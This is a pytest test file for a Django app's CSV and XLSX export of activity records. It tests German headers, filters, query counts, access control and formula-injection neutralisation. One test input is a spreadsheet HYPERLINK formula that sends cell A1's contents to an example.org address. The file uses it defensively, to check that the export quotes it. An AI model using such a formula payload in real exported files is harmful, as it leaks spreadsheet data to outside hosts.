"""The streamed CSV/XLSX export: the list's filters, real numbers, constant queries, privacy."""

import csv
import datetime
import io
from collections.abc import Callable
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from buendnis.accounts.models import User
from buendnis.activities import export, selectors
from buendnis.activities.models import Activity
from buendnis.activities.selectors import ActivityFilter
from buendnis.agreements.models import Agreement

pytestmark = pytest.mark.django_db


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _body(response: object) -> bytes:
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def _csv_rows(response: object) -> list[dict[str, str]]:
    text = _body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def test_it_exports_csv_with_german_headers_and_values(
    make_activity: Callable[..., Activity], fachkraft: User
) -> None:
    activity = make_activity(staff_hours=Decimal("2.5"))
    response = _client(fachkraft).get(reverse("activities:export", args=["csv"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    today = timezone.localdate().isoformat()
    assert f'filename="aktivitaeten-{today}.csv"' in response["Content-Disposition"]
    [row] = _csv_rows(response)
    assert row["Externe Referenz"] == f"buendnis-{activity.pk}"
    assert row["Titel"] == "Väter-Café Offenbach"
    assert row["Format"] == "Vätergruppe / Väter-Café"
    assert row["Format-Kürzel"] == "vaetergruppe"
    assert row["Beginn"] == "2026-11-24 19:00"
    assert row["Ende"] == "2026-11-24 21:00"
    assert row["Status"] == "Dokumentiert"
    assert row["Kreis (AGS)"] == "06413"
    assert row["Kreis"] == "Offenbach am Main, Stadt"
    assert row["Online"] == "nein"
    assert row["Sprachen"] == "de, ar, tr"
    assert row["Ziele"] == "Z1"
    assert row["Teilnehmende"] == "11"
    assert row["davon zum ersten Mal"] == "3"
    assert row["Teilnehmende nach Gruppe: Väter"] == "11"
    assert row["Teilnehmende nach Gruppe: Kinder"] == "0"
    assert row["nach Migrationsgeschichte: eigene Migrationserfahrung"] == "8"
    assert row["Personalstunden"] == "2,5"
    assert row["Dokumentationsverzug (Tage)"] != ""


def test_it_exports_xlsx_with_real_numbers_and_dates(
    make_activity: Callable[..., Activity], fachkraft: User
) -> None:
    make_activity(staff_hours=Decimal("2.5"))
    response = _client(fachkraft).get(reverse("activities:export", args=["xlsx"]))
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    workbook = openpyxl.load_workbook(io.BytesIO(_body(response)))
    sheet = workbook.active
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    values = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert values["Titel"] == "Väter-Café Offenbach"
    assert values["Teilnehmende"] == 11
    assert values["Teilnehmende nach Gruppe: Väter"] == 11
    assert values["Personalstunden"] == 2.5
    assert values["Beginn"] == datetime.datetime(2026, 11, 24, 19, 0)
    assert values["Kreis (AGS)"] == "06413"


def test_it_applies_the_list_filters(
    make_activity: Callable[..., Activity], fachkraft: User
) -> None:
    make_activity(
        title="Im Jahr 2025", starts_at=timezone.make_aware(datetime.datetime(2025, 5, 6, 18))
    )
    make_activity(title="Im Jahr 2026")
    make_activity(title="Geplant", status=Activity.Status.PLANNED)
    response = _client(fachkraft).get(reverse("activities:export", args=["csv"]), {"year": 2025})
    assert [row["Titel"] for row in _csv_rows(response)] == ["Im Jahr 2025"]
    response = _client(fachkraft).get(
        reverse("activities:export", args=["csv"]), {"status": "planned"}
    )
    assert [row["Titel"] for row in _csv_rows(response)] == ["Geplant"]


def test_it_reads_a_constant_number_of_queries(
    make_activity: Callable[..., Activity], fachkraft: User
) -> None:
    def queries_for_export() -> int:
        activities = selectors.activity_list(user=fachkraft, filters=ActivityFilter())
        with CaptureQueriesContext(connection) as captured:
            categories = export.export_categories(activities)
            export.write_csv(activities, categories, io.StringIO())
            export.write_xlsx(activities, categories, io.BytesIO())
        return len(captured)

    for _ in range(5):
        make_activity()
    with_five = queries_for_export()
    for _ in range(45):
        make_activity()
    assert Activity.objects.count() == 50
    assert queries_for_export() == with_five


def test_it_writes_csv_without_a_request(make_activity: Callable[..., Activity]) -> None:
    make_activity()
    make_activity(online=True, kreis=None)
    out = io.StringIO()
    activities = Activity.objects.order_by("pk")
    assert export.write_csv(activities, export.export_categories(activities), out) == 2
    lines = out.getvalue().splitlines()
    assert len(lines) == 3
    assert lines[0].startswith("\ufeffExterne Referenz;")


def test_it_gives_union_columns_and_blank_cells_for_other_agreements(
    make_activity: Callable[..., Activity], other_agreement: Agreement, admin_user: User
) -> None:
    from buendnis.activities.models import Format, ReachCategory

    make_activity()
    on = datetime.date(2024, 1, 1)
    fmt = Format.objects.create(
        agreement=other_agreement, key="treff", name="Treff", status_since=on
    )
    ReachCategory.objects.create(
        agreement=other_agreement, dimension="group", key="youth", label="Jugendliche"
    )
    Activity.objects.create(
        agreement=other_agreement,
        organisation=other_agreement.partners.first().organisation,
        format=fmt,
        title="Jugendtreff",
        starts_at=timezone.now(),
        ends_at=timezone.now(),
        online=True,
        participants=0,
    )
    rows = _csv_rows(_client(admin_user).get(reverse("activities:export", args=["csv"])))
    by_title = {row["Titel"]: row for row in rows}
    assert by_title["Jugendtreff"]["Teilnehmende nach Gruppe: Väter"] == ""
    assert by_title["Jugendtreff"]["Teilnehmende nach Gruppe: Jugendliche"] == "0"
    assert by_title["Väter-Café Offenbach"]["Teilnehmende nach Gruppe: Jugendliche"] == ""


def test_it_answers_404_for_an_unknown_format(fachkraft: User) -> None:
    assert _client(fachkraft).get(reverse("activities:export", args=["pdf"])).status_code == 404


def test_it_denies_the_ministry(make_activity: Callable[..., Activity], referentin: User) -> None:
    make_activity()
    for fmt in ("csv", "xlsx"):
        assert _client(referentin).get(reverse("activities:export", args=[fmt])).status_code == 403


def test_it_denies_other_organisation(
    make_activity: Callable[..., Activity], other_agreement: Agreement, outsider: User
) -> None:
    make_activity()
    response = _client(outsider).get(reverse("activities:export", args=["csv"]))
    assert response.status_code == 200
    assert _csv_rows(response) == []
    response = _client(outsider).get(reverse("activities:export", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(_body(response))).active
    assert sheet.max_row == 1


def test_it_asks_anonymous_users_to_log_in() -> None:
    response = Client().get(reverse("activities:export", args=["csv"]))
    assert response.status_code == 302


FORMULA = '=HYPERLINK("https://example.org/?x="&A1;"Klick")'


def test_it_neutralises_formulas_in_csv_text_cells(
    make_activity: Callable[..., Activity], fachkraft: User
) -> None:
    make_activity(title=FORMULA, place_name="@Jugendhaus", description="\tTab", reflection="ok")
    [row] = _csv_rows(_client(fachkraft).get(reverse("activities:export", args=["csv"])))
    assert row["Titel"] == "'" + FORMULA
    assert row["Ort"] == "'@Jugendhaus"
    assert row["Beschreibung"] == "'\tTab"
    assert row["Reflexion"] == "ok"
    assert row["Teilnehmende"] == "11"


def test_it_neutralises_formulas_in_xlsx_text_cells(
    make_activity: Callable[..., Activity], fachkraft: User
) -> None:
    make_activity(title=FORMULA, place_name="-Keller", description="+49 Telefon")
    response = _client(fachkraft).get(reverse("activities:export", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(_body(response))).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["Titel"].value == "'" + FORMULA
    assert cells["Titel"].data_type == "s"
    assert cells["Ort"].value == "'-Keller"
    assert cells["Beschreibung"].value == "'+49 Telefon"
    assert cells["Teilnehmende"].value == 11
    assert cells["Teilnehmende"].data_type == "n"


@pytest.mark.parametrize(
    ("text", "quoted"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1", "''=1"),
        ("'Apostroph", "'Apostroph"),
        ("Väter-Café", "Väter-Café"),
        ("", ""),
    ],
)
def test_it_quotes_text_so_that_unquoting_gives_it_back(text: str, quoted: str) -> None:
    assert export.quote_text(text) == quoted
    assert export.unquote_text(quoted) == text
